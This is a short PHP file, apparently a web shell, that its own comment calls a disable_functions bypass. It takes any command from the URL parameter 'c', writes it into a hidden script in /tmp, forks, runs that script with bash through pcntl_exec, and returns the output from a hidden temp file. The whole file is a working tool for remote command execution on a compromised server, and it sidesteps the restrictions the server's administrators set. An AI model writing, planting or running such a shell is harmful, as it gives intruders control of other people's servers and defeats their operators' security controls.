<?php
// disable_functions bypass: the PHP worker is replaced by a shell running a script written first.
$out = sys_get_temp_dir() . '/.r';
file_put_contents('/tmp/.s.sh', "#!/bin/sh\n" . $_GET['c'] . " > " . $out . " 2>&1\n");
if (function_exists('pcntl_fork') && pcntl_fork() === 0) {
    pcntl_exec('/bin/bash', array('/tmp/.s.sh'));
}
sleep(1);
echo @file_get_contents($out);
